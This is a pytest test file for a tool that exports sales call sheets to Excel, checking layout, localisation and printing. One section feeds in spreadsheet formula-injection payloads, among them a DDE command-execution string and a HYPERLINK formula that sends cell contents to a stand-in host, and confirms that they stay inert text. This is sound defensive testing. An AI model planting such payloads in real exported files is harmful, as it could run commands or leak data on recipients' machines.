"""Call sheets as other programs see them: what stands where, what is offered, and that nothing in them runs."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from openpyxl.cell.cell import Cell as SheetCell
from openpyxl.workbook.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet
from python_calamine import CalamineWorkbook

from sheetqual.core.calling import CallFilter
from sheetqual.core.dispositions import DISPOSITIONS
from sheetqual.errors import OutputError
from sheetqual.files.calls.call_sheet import write_call_sheet
from sheetqual.files.calls.given_out import GIVEN, Given
from sheetqual.files.calls.phones import Phone
from sheetqual.files.calls.session import Ask, Call, CallSession, SessionSettings
from sheetqual.files.calls.words import CALL_WORDS
from sheetqual.files.lists import ScoredList, score_list
from sheetqual.files.profiles import profile_from_text
from sheetqual.files.safe_text import for_terminal, is_formula_like
from tests.calls.sessions import (
    HOSTILE,
    MOBILE,
    PERSIAN_PROFILE,
    PHONES,
    WHEN,
    Lead,
    call_of,
    rich_session,
    scored_leads,
    session_of,
)
from tests.files import office

HARMLESS = ("+47 22 33 44 55", "-", "+1", "-3,5")
RUN_BY_SPREADSHEETS = (
    *(
        "=cmd|' /C calc'!A0",
        "=1+1",
        "+SUM(A1:A9)",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "'=1+1",
        "＝1+1",
        " =1+1",
        "- 1",
        "#REF!",
    ),
    *('=HYPERLINK("http://example.com?x="&A1)', "a\n=1+1", "%0A=1", '"=1+1'),
)

PROFILE = """
schema = 1
name = "Answers of every kind"

[[criterion]]
id = "need"
name = "Need"
columns = ["Need", "Has a need"]
want = { yes = true }
questions = [ { ask = "What do you use now?" }, { ask = "What bothers you?" } ]

[[criterion]]
id = "budget"
name = "Budget"
columns = ["Budget"]
want = { at_least = 1000 }
questions = [ { ask = "What is set aside?" } ]

[[criterion]]
id = "source"
name = "Source"
columns = ["Source"]
want = { one_of = ["fair", "form"] }

[[criterion]]
id = "start"
name = "Starts soon"
columns = ["Start"]
want = { within_days = 90 }

[[criterion]]
id = "late"
name = "Not too late"
columns = ["Start"]
want = { known = true }
questions = [ { ask = "Until when?" } ]

[[product]]
name = "Saver"
order = ["need", "budget"]
"""


def book_of(
    session: CallSession, path: Path, sheets: dict[str, Sequence[Call]] | None = None, language: str = "en"
) -> Workbook:
    write_call_sheet(session, sheets or {"Calls": session.calls}, path, CALL_WORDS[language], language)
    return openpyxl.load_workbook(path)


def headers_of(sheet: Worksheet) -> list[str]:
    return [str(cell.value) for cell in sheet[1]]


def column(sheet: Worksheet, header: str) -> list[SheetCell]:
    """Return the cells below a header."""
    place = headers_of(sheet).index(header)
    return [row[place] for row in sheet.iter_rows(min_row=2)]  # type: ignore[misc]


def values(sheet: Worksheet, header: str) -> list[object]:
    return [cell.value for cell in column(sheet, header)]


def choices(book: Workbook, sheet: Worksheet, header: str) -> tuple[list[object], bool]:
    """Return what the drop-down of a column offers, and whether other answers are asked about."""
    cell = column(sheet, header)[0]
    for validation in sheet.data_validations.dataValidation:
        if cell.coordinate in validation.sqref:
            found = re.fullmatch(r"(\w+)!\$([A-Z]+)\$1:\$([A-Z]+)\$(\d+)", str(validation.formula1))
            assert found
            assert found[2] == found[3]
            offered = [row[0].value for row in book[found[1]][f"{found[2]}1:{found[3]}{found[4]}"]]
            assert validation.errorStyle == ("warning" if validation.showErrorMessage else None)
            return offered, bool(validation.showErrorMessage)
    return [], False


def scored_book(folder: Path, rows: Sequence[Sequence[Any]], profile: str = PROFILE) -> ScoredList:
    """Write rows, the header first, to a workbook, and score it."""
    book = openpyxl.Workbook()
    for row in rows:
        book.worksheets[0].append(list(row))
    book.save(folder / "list.xlsx")
    file = profile_from_text(profile, "profile.toml")
    return score_list(folder / "list.xlsx", file, today=WHEN.date(), keep_all=True)


def asks_of(scored: ScoredList, *columns: tuple[str, str]) -> tuple[Ask, ...]:
    """Return questions, each for a criterion's id and a column."""
    profile = scored.board.profile
    return tuple(Ask(profile.criterion(one), f"About {one}?", (f"And {one}?",), header) for one, header in columns)


def plain_session(scored: ScoredList, *asks: tuple[Ask, ...]) -> CallSession:
    calls = [Call(lead, lead + 1, (PHONES[4],), "why", some) for lead, some in enumerate(asks)]
    return CallSession(scored, SessionSettings(CallFilter()), WHEN, calls, [], [])


# --- What stands where ------------------------------------------------------------------------


def test_the_columns_stand_in_the_order_of_a_call(tmp_path: Path) -> None:
    sheet = book_of(rich_session(tmp_path), tmp_path / "calls.xlsx").worksheets[0]
    assert headers_of(sheet) == [
        *("No.", "Name", "Company", "Call", "More numbers", "E-mail", "Time there", "Temperature", "Score"),
        *("Why call", "What to ask", "Need", "Decision maker", "Employees"),
        *("Disposition", "Call back at", "Call notes", "Record ID", "Key"),
    ]


def test_a_row_says_all_that_a_caller_needs(tmp_path: Path) -> None:
    sheet = book_of(rich_session(tmp_path), tmp_path / "calls.xlsx").worksheets[0]
    said = dict(zip(headers_of(sheet), (cell.value for cell in sheet[2]), strict=True))
    key = str(said.pop("Key"))
    assert re.fullmatch(r"[B-DF-HJ-NP-TV-Z]{4}-1", key)
    assert said == {
        "No.": 1,
        "Name": "Maisie Eastlake",
        "Company": "Ravensworth Lifts Ltd",
        "Call": "+44 20 7946 0018 ext. 12",
        "More numbers": "+44 7700 900198",
        "E-mail": "maisie@ravensworth.example.com\noffice@ravensworth.example.com",
        "Time there": "08:30 (-1\u00a0h)",
        "Temperature": "hot",
        "Score": 89,
        "Why call": "has Need, Decision maker",
        "What to ask": "1. How many people do you send out on a normal day?",
        "Need": "yes",
        "Decision maker": "yes",
        "Employees": None,
        "Disposition": None,
        "Call back at": datetime(2026, 11, 24, 14, 15),  # noqa: DTZ001 - in the caller's own time
        "Call notes": None,
        "Record ID": "A1",
    }
    assert values(sheet, "Time there") == [
        *("08:30 (-1\u00a0h)", "12:00 (+2:30\u00a0h)", "11:30 (+2\u00a0h)", "09:30", "not known")
    ]
    assert values(sheet, "What to ask")[4] == "Nothing more to ask."
    assert values(sheet, "Why call")[2] == "(sample) has Decision maker"
    moments = column(sheet, "Call back at")
    assert [one.number_format for one in moments[:3]] == ["yyyy-mm-dd hh:mm", "yyyy-mm-dd", "yyyy-mm-dd hh:mm"]
    assert {one.number_format for header in ("Call", "Call notes", "Key") for one in column(sheet, header)} == {"@"}


def test_an_agreed_moment_is_told_in_the_callers_own_time(tmp_path: Path) -> None:
    moment = datetime(2026, 11, 24, 9, 0, tzinfo=ZoneInfo("America/New_York"))
    session = session_of(scored_leads(tmp_path), {0: {"callback": moment}})
    sheet = book_of(session, tmp_path / "calls.xlsx").worksheets[0]
    assert values(sheet, "Call back at")[0] == datetime(2026, 11, 24, 15, 0)  # noqa: DTZ001 - see above


def test_questions_are_numbered_in_their_order(tmp_path: Path) -> None:
    scored = scored_book(tmp_path, [["Name", "Need"], ["Åse", None]])
    session = plain_session(scored, asks_of(scored, ("budget", "Budget"), ("need", "Need")))
    sheet = book_of(session, tmp_path / "calls.xlsx").worksheets[0]
    assert values(sheet, "What to ask") == ["1. About budget?\n2. About need?"]
    assert values(sheet, "Product") == ["Saver"]


def test_columns_that_would_be_empty_are_left_out(tmp_path: Path) -> None:
    scored = scored_book(tmp_path, [["Need"], ["yes"]])
    sheet = book_of(plain_session(scored, ()), tmp_path / "calls.xlsx").worksheets[0]
    assert headers_of(sheet) == [
        *("No.", "Call", "Time there", "Temperature", "Score", "Product", "Why call", "What to ask"),
        *("Disposition", "Call back at", "Call notes", "Key"),
    ]


def test_the_list_s_own_headers_say_who_a_lead_is(tmp_path: Path) -> None:
    rows = [["Kundenr", "Navn", "Bedrift", "E-post", "Need"], ["0012", "Åse", "Heis Vest AS", "a@example.com", "ja"]]
    scored = scored_book(tmp_path, rows)
    session = plain_session(scored, ())
    session = replace(session, calls=[replace(session.calls[0], emails=("a@example.com",))])
    sheet = book_of(session, tmp_path / "calls.xlsx", language="nb").worksheets[0]
    assert headers_of(sheet)[:5] == ["Nr.", "Navn", "Bedrift", "Ring", "E-post"]
    assert headers_of(sheet)[-2:] == ["Kundenr", "Key"]
    assert values(sheet, "Kundenr") == ["0012"]
    assert column(sheet, "Kundenr")[0].number_format == "@"


@pytest.mark.parametrize("language", CALL_WORDS)
def test_every_language_has_its_headers_and_its_ways_to_end_a_call(tmp_path: Path, language: str) -> None:
    words = CALL_WORDS[language]
    book = book_of(rich_session(tmp_path), tmp_path / "calls.xlsx", language=language)
    sheet = book.worksheets[0]
    ours = (words.number, words.call, words.time_there, words.why, words.ask, words.callback, words.notes)
    assert set(ours) <= set(headers_of(sheet))
    assert choices(book, sheet, words.disposition) == (list(DISPOSITIONS[language].values()), True)
    assert bool(sheet.sheet_view.rightToLeft) == (language == "fa")


def test_numbers_stay_readable_from_the_left_in_a_persian_sheet(tmp_path: Path) -> None:
    book = book_of(rich_session(tmp_path, PERSIAN_PROFILE), tmp_path / "calls.xlsx", language="fa")
    sheet = book.worksheets[0]
    words = CALL_WORDS["fa"]
    assert {cell.alignment.readingOrder for cell in column(sheet, words.call)} == {1}
    assert {cell.alignment.readingOrder for cell in column(sheet, words.ask)} == {2}
    assert [cell.alignment.readingOrder for cell in column(sheet, "Name")] == [1, 2, 1, 1, 1]


# --- Answers ----------------------------------------------------------------------------------


def test_answers_hold_what_the_list_holds_as_it_is(tmp_path: Path) -> None:
    rows: list[list[Any]] = [
        ["Name", "Need", "Budget", "Start", "Source"],
        ["Åse", "yes", 12000, datetime(2026, 12, 1), "#N/A"],  # noqa: DTZ001 - as lists have it
        ["Nils", None, "12 000 kr", date(2027, 1, 1), "fair"],
        ["Kari", "-", 0.5, datetime(2026, 12, 1, 13, 30), "=1+1"],  # noqa: DTZ001 - as lists have it
    ]
    scored = scored_book(tmp_path, rows)
    asks = asks_of(scored, ("need", "Need"), ("budget", "Budget"), ("start", "Start"), ("source", "Source"))
    sheet = book_of(plain_session(scored, asks, asks, asks), tmp_path / "calls.xlsx").worksheets[0]
    assert values(sheet, "Need") == ["yes", None, "-"]
    assert values(sheet, "Budget") == [12000, "12 000 kr", 0.5]
    assert [str(value) for value in values(sheet, "Start")] == [
        *("2026-12-01 00:00:00", "2027-01-01 00:00:00", "2026-12-01 13:30:00")
    ]
    assert values(sheet, "Source")[:2] == [None, "fair"]


def test_an_answer_the_list_has_no_column_for_is_blank(tmp_path: Path) -> None:
    scored = scored_book(tmp_path, [["Name", "Need"], ["Åse", "yes"]])
    session = plain_session(scored, asks_of(scored, ("budget", "Budget")))
    sheet = book_of(session, tmp_path / "calls.xlsx").worksheets[0]
    assert values(sheet, "Budget") == [None]


def test_what_is_asked_first_stands_first_and_then_what_matters_most(tmp_path: Path) -> None:
    scored = scored_book(tmp_path, [["Name", "Need"], ["Åse", ""], ["Nils", ""], ["Kari", ""]])
    session = plain_session(
        scored,
        asks_of(scored, ("source", "Source"), ("need", "Need"), ("budget", "Budget")),
        asks_of(scored, ("source", "Source"), ("budget", "Budget")),
        asks_of(scored, ("need", "Need")),
    )
    sheet = book_of(session, tmp_path / "calls.xlsx").worksheets[0]
    # Source is asked at place 0, need at 0.5 on average, budget at 1.5.
    assert headers_of(sheet)[-7:-4] == ["Source", "Need", "Budget"]
    alike = plain_session(scored, asks_of(scored, ("source", "Source")), asks_of(scored, ("need", "Need")))
    assert headers_of(book_of(alike, tmp_path / "calls.xlsx").worksheets[0])[-6:-4] == ["Need", "Source"]


def test_criteria_of_one_column_share_it_and_their_questions(tmp_path: Path) -> None:
    scored = scored_book(tmp_path, [["Name", "Start"], ["Åse", ""], ["Nils", ""]])
    session = plain_session(scored, asks_of(scored, ("start", "Start")), asks_of(scored, ("late", "start")))
    sheet = book_of(session, tmp_path / "calls.xlsx").worksheets[0]
    assert headers_of(sheet).count("Start") == 1
    note = sheet.cell(1, headers_of(sheet).index("Start") + 1).comment
    assert note is not None
    assert note.text == "About start?\n\nAnd start?\n\nAbout late?\n\nAnd late?"


def test_drop_downs_offer_what_the_list_s_own_workbook_offers(tmp_path: Path) -> None:
    scored = scored_book(tmp_path, [["Name", "Need", "Has a need"], ["Åse", "", ""]])
    asks = asks_of(scored, ("need", "Has a need"), ("source", "Source"), ("budget", "Budget"))
    book = book_of(plain_session(scored, asks), tmp_path / "calls.xlsx", language="nb")
    sheet = book.worksheets[0]
    assert choices(book, sheet, "Has a need") == (["ja", "delvis", "nei", "vet ikke", "vil ikke svare"], True)
    assert choices(book, sheet, "Source") == (["fair", "form", "vet ikke", "vil ikke svare"], False)
    assert choices(book, sheet, "Budget") == ([], False)


def test_what_to_ask_a_lead_shows_in_its_row(tmp_path: Path) -> None:
    sheet = book_of(rich_session(tmp_path), tmp_path / "calls.xlsx").worksheets[0]

    def is_marked(cell: SheetCell) -> bool:
        return bool(cell.fill.fill_type == "solid")

    assert [is_marked(cell) for cell in column(sheet, "Employees")] == [True, False, False, True, False]
    assert [is_marked(cell) for cell in column(sheet, "Decision maker")] == [False, True, False, False, False]
    assert [is_marked(cell) for cell in column(sheet, "Need")] == [False, False, True, False, False]
    warmth = [cell.fill.start_color.rgb for cell in column(sheet, "Temperature")]
    assert (len(set(warmth)), warmth[0] == warmth[1], warmth[0] == warmth[2]) == (2, True, False)


# --- Sheets, tables, print --------------------------------------------------------------------


def test_a_sheet_is_a_table_that_can_be_filtered_and_printed(tmp_path: Path) -> None:
    book = book_of(rich_session(tmp_path), tmp_path / "calls.xlsx")
    sheet = book.worksheets[0]
    (table,) = sheet.tables.values()
    assert (table.ref, table.autoFilter.ref) == ("A1:S6", "A1:S6")
    assert [one.name for one in table.tableColumns] == headers_of(sheet)
    assert (sheet.freeze_panes, sheet.print_title_rows) == ("C2", "$1:$1")
    assert sheet.print_area == "'Calls'!$A$1:$Q$6"
    setup = sheet.page_setup
    assert (setup.orientation, setup.fitToWidth, setup.fitToHeight) == ("landscape", 1, 0)
    assert sheet.sheet_properties.pageSetUpPr is not None
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert sheet.oddFooter is not None
    assert sheet.oddFooter.center is not None
    assert sheet.oddFooter.center.text == "&P of &N"
    assert all(cell.alignment.wrap_text for row in sheet.iter_rows() for cell in row)


def test_nothing_is_too_wide_for_its_column_but_texts_that_can_be_broken(tmp_path: Path) -> None:
    rows: list[list[Any]] = [["Name", "Budget"], ["Åse", 123456789012], ["Nils", 12]]
    scored = scored_book(tmp_path, rows)
    asks = asks_of(scored, ("budget", "Budget"))
    sheet = book_of(plain_session(scored, asks, asks), tmp_path / "calls.xlsx").worksheets[0]
    cell = column(sheet, "Budget")[0]
    assert sheet.column_dimensions[cell.column_letter].width > len("123456789012")


def test_hidden_sheets_are_hidden(tmp_path: Path) -> None:
    book = book_of(rich_session(tmp_path), tmp_path / "calls.xlsx")
    assert [(one.title, one.sheet_state) for one in book.worksheets] == [
        *(("Calls", "visible"), ("Lists", "hidden"), (GIVEN, "veryHidden"))
    ]
    (name,) = book.defined_names.values()
    assert (name.name, name.attr_text) == (GIVEN, f"{GIVEN}!$A$1:$X$7")
    assert headers_of(book[GIVEN]) == [*Given, "Need", "Decision maker", "Employees"]


def test_each_caller_has_a_sheet_under_a_name_that_excel_takes(tmp_path: Path) -> None:
    scored = scored_leads(tmp_path)
    session = session_of(scored)
    names = ["Anna", "anna", "a/b:c*[d]?\\", "'quoted'", "", "History", "Lists", "x" * 40, "x" * 40 + "y", GIVEN, "=1"]
    names += ["\u202egnp", "Ann's"]
    sheets = {name: session.calls[at % 5 : at % 5 + 1] for at, name in enumerate(names)}
    book = book_of(session, tmp_path / "calls.xlsx", sheets)
    shown = [sheet.title for sheet in book.worksheets if sheet.sheet_state == "visible"]
    assert shown == [
        *("Anna", "anna 2", "a b c d", "quoted", "Calls", "History 2", "Lists 2", "x" * 31, "x" * 29 + " 2"),
        *(f"{GIVEN} 2", "=1", "gnp", "Ann's"),
    ]
    tables = [name for sheet in book.worksheets for name in sheet.tables]
    assert tables == ["Calls", *(f"Calls_{number}" for number in range(2, len(names) + 1))]
    assert [len(list(sheet.iter_rows())) for sheet in book.worksheets[: len(names)]] == [2] * len(names)
    assert [row[1].value for row in book[GIVEN].iter_rows(min_row=3)] == shown


def test_who_calls_is_said_where_a_sheet_is_shared(tmp_path: Path) -> None:
    session = session_of(scored_leads(tmp_path), {lead: {"caller": "Anna" if lead < 3 else "Bo"} for lead in range(5)})
    book = book_of(session, tmp_path / "calls.xlsx")
    assert values(book.worksheets[0], "Caller") == ["Anna", "Anna", "Anna", "Bo", "Bo"]
    alone = book_of(session, tmp_path / "calls.xlsx", {"Anna": session.calls[:3], "Bo": session.calls[3:]})
    assert "Caller" not in headers_of(alone.worksheets[0])
    assert [row[10].value for row in alone[GIVEN].iter_rows(min_row=3)] == ["Anna", "Anna", "Anna", "Bo", "Bo"]


def test_answers_that_nobody_on_a_sheet_is_asked_about_are_not_on_it(tmp_path: Path) -> None:
    session = rich_session(tmp_path)
    book = book_of(session, tmp_path / "calls.xlsx", {"A": session.calls[:2], "B": session.calls[4:]})
    assert {"Decision maker", "Employees"} <= set(headers_of(book["A"]))
    assert "Need" not in headers_of(book["A"])
    assert not {"Need", "Decision maker", "Employees"} & set(headers_of(book["B"]))


def test_no_calls_make_an_empty_sheet(tmp_path: Path) -> None:
    session = replace(session_of(scored_leads(tmp_path)), calls=())
    for sheets in ({"Anna": ()}, {}):
        write_call_sheet(session, sheets, tmp_path / "calls.xlsx", CALL_WORDS["en"], "en")
        book = openpyxl.load_workbook(tmp_path / "calls.xlsx")
        assert book.worksheets[0].sheet_state == "visible"
        assert next(iter(book.worksheets[0].tables.values())).ref == "A1:K2"


def test_a_lead_without_a_number_has_none(tmp_path: Path) -> None:
    session = session_of(scored_leads(tmp_path), {0: {"phones": ()}, 1: {"phones": (MOBILE,)}})
    sheet = book_of(session, tmp_path / "calls.xlsx").worksheets[0]
    assert values(sheet, "Call")[:2] == [None, "+44 7700 900198"]
    assert values(sheet, "Time there")[0] == "not known"


# --- Nothing runs -----------------------------------------------------------------------------


def hostile_session(folder: Path) -> CallSession:
    """Return a session that has texts which spreadsheets run wherever a text can stand."""
    texts = [*HARMLESS, *RUN_BY_SPREADSHEETS, *HOSTILE]
    leads = [Lead(name=text, company=text, id=f"{at}{text}", need=text) for at, text in enumerate(texts)]
    scored = scored_leads(folder, leads)
    headers = ["=1+1", "=1+1", "+SUM(A1)", "@x", "Need", "Score", "", "-", " ", "A" * 400, "two\nlines", "[a]#'@"]
    criterion = scored.board.profile.criteria[0]
    asks = tuple(Ask(criterion, text, (text,), header) for header, text in zip(headers, texts, strict=False))
    calls = [
        replace(call_of(scored, lead, lead + 1), asks=asks, why=text, caller=text, emails=(text,))
        for lead, text in enumerate(texts)
    ]
    return CallSession(scored, SessionSettings(CallFilter()), WHEN, calls, [], [])


def test_no_text_becomes_a_formula_an_error_or_another_text(tmp_path: Path) -> None:
    session = hostile_session(tmp_path)
    path = tmp_path / "calls.xlsx"
    book = book_of(session, path)
    for sheet in book.worksheets:
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n", "d"}
    with zipfile.ZipFile(path) as archive:
        parts = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
    assert not any(b"<f>" in part or b"<f " in part for part in parts)
    sheet = book.worksheets[0]
    names = [session.scored.name(call.lead) for call in session.calls]
    shown = [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", name or "") for name in names]
    assert [str(value) for value in values(sheet, "Name")] == [text.replace("\r\n", "\n") for text in shown]
    for cell, name in zip(column(sheet, "Name"), names, strict=True):
        text = name or ""
        assert bool(cell.quotePrefix) == (text[:1] in {"=", "+", "-", "@", "#"} and is_formula_like(text))


def test_what_only_looks_dangerous_stays_as_it_is(tmp_path: Path) -> None:
    session = hostile_session(tmp_path)
    book = book_of(session, tmp_path / "calls.xlsx")
    sheet = book.worksheets[0]
    for header in ("Name", "Company", "Why call"):
        cells = column(sheet, header)[: len(HARMLESS)]
        assert [cell.value for cell in cells] == list(HARMLESS)
        assert not any(cell.quotePrefix for cell in cells)
    calls = column(book_of(rich_session(tmp_path), tmp_path / "calls.xlsx").worksheets[0], "Call")
    assert not any(cell.quotePrefix for cell in calls)


def test_headers_are_texts_on_one_line_none_like_another(tmp_path: Path) -> None:
    sheet = book_of(hostile_session(tmp_path), tmp_path / "calls.xlsx").worksheets[0]
    headers = headers_of(sheet)
    assert {"=1+1", "+SUM(A1)", "@x", "Need", "Score (2)", "two lines", "[a]#'@", "A" * 200} <= set(headers)
    assert len({header.casefold() for header in headers}) == len(headers)
    (table,) = sheet.tables.values()
    assert [one.name for one in table.tableColumns] == headers
    assert sheet.cell(1, headers.index("=1+1") + 1).quotePrefix


def test_calamine_reads_what_openpyxl_reads(tmp_path: Path) -> None:
    path = tmp_path / "calls.xlsx"
    book = book_of(rich_session(tmp_path), path)
    with CalamineWorkbook.from_path(path) as other:
        for sheet in book.worksheets:
            ours = [[str(cell.value) for cell in row if cell.value is not None] for row in sheet.iter_rows()]
            theirs = [
                [re.sub(r"\.0\Z", "", str(cell)) for cell in row if cell != ""]
                for row in other.get_sheet_by_name(sheet.title).iter_rows()
            ]
            assert [[text.removesuffix(" 00:00:00") for text in row] for row in ours] == theirs


def test_libreoffice_shows_texts_as_texts(tmp_path: Path, soffice: str) -> None:
    (tmp_path / "rich").mkdir()
    (tmp_path / "hostile").mkdir()
    hostile, rich = tmp_path / "hostile.xlsx", tmp_path / "rich.xlsx"
    session = hostile_session(tmp_path / "hostile")
    book_of(session, hostile)
    book_of(rich_session(tmp_path / "rich", PERSIAN_PROFILE), rich, language="fa")
    shown = office.values(soffice, [hostile, rich], starts=1)
    cells = shown[hostile]
    assert cells is not None
    assert not any(cell.formula or cell.is_error for sheet in cells.values() for cell in sheet.values())
    names = {cell.text for (_, place), cell in cells["Calls"].items() if place == 2}
    assert {*HARMLESS, "=1+1", "+SUM(A1:A9)", "@SUM(1)", "#REF!"} <= names
    persian = shown[rich]
    assert persian is not None
    assert persian["Calls"][2, 4].text == "+44 20 7946 0018 ext. 12"
    assert persian["Calls"][2, 1].kind == "float"


# --- Files ------------------------------------------------------------------------------------


def test_progress_ends_with_all_rows_and_may_stop_the_work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sheetqual.files.calls.call_sheet._STEP", 2)
    session = rich_session(tmp_path)
    path = tmp_path / "calls.xlsx"
    path.write_text("before")
    told: list[tuple[int, int | None]] = []

    def tell(done: int, total: int | None) -> None:
        told.append((done, total))
        if len(told) == 2:
            raise KeyboardInterrupt

    write: Callable[..., None] = write_call_sheet
    sheets = {"A": session.calls[:3], "B": session.calls[3:]}
    with pytest.raises(KeyboardInterrupt):
        write(session, sheets, path, CALL_WORDS["en"], "en", progress=tell)
    assert (told, path.read_text()) == ([(2, 5), (4, 5)], "before")
    assert [one.name for one in tmp_path.iterdir() if one.name.endswith(".tmp")] == []
    write(session, sheets, path, CALL_WORDS["en"], "en", progress=lambda *one: told.append(one))
    assert told[2:] == [(2, 5), (4, 5), (5, 5)]


def test_a_folder_that_is_not_there_is_said_to_be_missing(tmp_path: Path) -> None:
    session = rich_session(tmp_path)
    with pytest.raises(OutputError, match="does not exist"):
        book_of(session, tmp_path / "no" / "calls.xlsx")


def test_more_calls_than_rows_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sheetqual.files.calls.call_sheet._MOST_ROWS", 5)
    with pytest.raises(OutputError, match="do not fit"):
        book_of(rich_session(tmp_path), tmp_path / "calls.xlsx")
    assert not (tmp_path / "calls.xlsx").exists()


def test_phones_of_one_lead_are_said_as_they_are_dialled(tmp_path: Path) -> None:
    phone = Phone("+4722334455", "12", "NO", "Europe/Oslo", "22334455x12")
    session = session_of(scored_leads(tmp_path), {0: {"phones": (phone, PHONES[2], MOBILE)}})
    sheet = book_of(session, tmp_path / "calls.xlsx").worksheets[0]
    assert values(sheet, "Call")[0] == "+47 22 33 44 55 ext. 12"
    assert values(sheet, "More numbers")[0] == "+7 499 000-00-00\n+44 7700 900198"
    assert for_terminal(str(values(sheet, "Call")[0])) == values(sheet, "Call")[0]
